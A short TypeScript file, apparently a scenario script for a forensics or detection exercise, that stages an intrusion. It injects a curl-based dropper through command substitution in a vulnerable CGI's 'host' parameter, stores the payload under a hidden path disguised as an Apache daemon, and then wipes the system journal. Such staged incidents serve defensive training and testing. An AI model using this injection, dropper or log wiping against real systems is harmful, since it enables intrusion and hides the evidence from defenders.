// The process and its files are gone when the tracing begins.
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  vulnerableCgi(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.www/apache2d', fetch: 'curl' })
  stage.mark('occurrence')
  await stage.http('203.0.113.53', `/cgi-bin/diag.cgi?host=$(${line.replaceAll(' ', '+')})`)
  await wipe(stage, ['journal'])
}
